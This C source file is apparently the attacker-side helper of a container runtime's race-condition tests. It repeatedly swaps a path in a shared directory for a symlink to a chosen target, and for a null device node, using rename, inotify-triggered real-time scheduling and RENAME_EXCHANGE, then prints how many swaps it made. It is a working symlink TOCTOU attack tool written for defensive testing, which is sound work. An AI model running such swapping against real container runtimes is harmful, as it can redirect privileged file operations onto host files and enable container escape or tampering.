/*
 * The attacker's half of the race tests: swaps a path in a directory that
 * a container under test shares, as fast as it can, until SIGTERM; then
 * prints how many swaps it made.
 *   swapper link TARGET PATH      whenever PATH is not a symlink (a node
 *                                 was made there), it becomes a symlink to
 *                                 TARGET
 *   swapper nullflip TARGET PATH  PATH alternates between a symlink to
 *                                 TARGET and a real null device (1:3)
 *   swapper notify TARGET PATH    like link, but woken by inotify when a
 *                                 name is made in PATH's directory, at a
 *                                 real-time priority: pinned to the CPU of
 *                                 the runtime (taskset), it runs right
 *                                 after the syscall that made the node,
 *                                 before the runtime's next one
 *   swapper exchange TARGET PATH  PATH (a directory) and a symlink to
 *                                 TARGET trade places (RENAME_EXCHANGE)
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <libgen.h>
#include <sched.h>
#include <sys/inotify.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

static volatile sig_atomic_t stop;
static void on_term(int s) { (void)s; stop = 1; }

int main(int argc, char **argv)
{
	if (argc != 4)
		return 2;
	const char *mode = argv[1], *target = argv[2], *path = argv[3];
	char tmp[4096];
	snprintf(tmp, sizeof tmp, "%s.swap", path);
	/* no SA_RESTART: a blocked read ends at SIGTERM */
	struct sigaction sa = { .sa_handler = on_term };
	sigaction(SIGTERM, &sa, NULL);
	unsigned long n = 0;
	if (strcmp(mode, "exchange") == 0) {
		unlink(tmp);
		if (symlink(target, tmp) < 0)
			return 1;
	}
	if (strcmp(mode, "notify") == 0) {
		struct sched_param sp = { .sched_priority = 10 };
		if (sched_setscheduler(0, SCHED_FIFO, &sp) < 0)
			perror("swapper: SCHED_FIFO");
		char dir[4096];
		snprintf(dir, sizeof dir, "%s", path);
		int in = inotify_init1(0);
		if (in < 0 || inotify_add_watch(in, dirname(dir), IN_CREATE) < 0)
			return 1;
		const char *base = strrchr(path, '/') ? strrchr(path, '/') + 1 : path;
		char buf[4096] __attribute__((aligned(8)));
		unlink(tmp);
		symlink(target, tmp);
		while (!stop) {
			ssize_t len = read(in, buf, sizeof buf);
			for (ssize_t off = 0; len > 0 && off < len;) {
				struct inotify_event *ev = (struct inotify_event *)(buf + off);
				off += (ssize_t)sizeof *ev + ev->len;
				struct stat st;
				if (ev->len && strcmp(ev->name, base) == 0 && lstat(path, &st) == 0 &&
				    !S_ISLNK(st.st_mode) && rename(tmp, path) == 0) {
					n++;
					symlink(target, tmp);
				}
			}
		}
		printf("%lu\n", n);
		return 0;
	}
	while (!stop) {
		if (strcmp(mode, "exchange") == 0) {
			if (renameat2(AT_FDCWD, tmp, AT_FDCWD, path, RENAME_EXCHANGE) == 0)
				n++;
			continue;
		}
		if (strcmp(mode, "link") == 0) {
			/* the symlink is ready before the node appears: one
			 * rename wins the race against the runtime's next call */
			struct stat st;
			if (lstat(tmp, &st) < 0 && symlink(target, tmp) < 0)
				continue;
			if (lstat(path, &st) < 0 || S_ISLNK(st.st_mode))
				continue;
			if (rename(tmp, path) == 0)
				n++;
			continue;
		}
		unlink(tmp);
		if (symlink(target, tmp) == 0 && rename(tmp, path) == 0)
			n++;
		if (strcmp(mode, "nullflip") == 0) {
			unlink(tmp);
			if (mknod(tmp, S_IFCHR | 0666, makedev(1, 3)) == 0 && rename(tmp, path) == 0)
				n++;
		}
	}
	printf("%lu\n", n);
	return 0;
}
